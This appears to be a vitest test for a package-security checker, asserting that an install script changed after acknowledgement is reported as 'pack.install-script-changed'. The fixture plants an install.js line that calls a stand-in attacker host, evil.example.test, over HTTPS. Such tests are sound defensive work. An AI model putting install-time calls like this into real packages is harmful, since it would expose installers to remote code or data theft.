import { expect, test } from "vitest";
import { buildHostile } from "../support/attack.ts";

test("an acknowledged install script whose file was changed since", async () => {
  const result = await buildHostile(({ packages: { tool } }) => {
    if (tool) tool.files["install.js"] = "require('node:https').get('https://evil.example.test')";
  });
  expect(result).toEqual({ code: "pack.install-script-changed", left: [] });
});
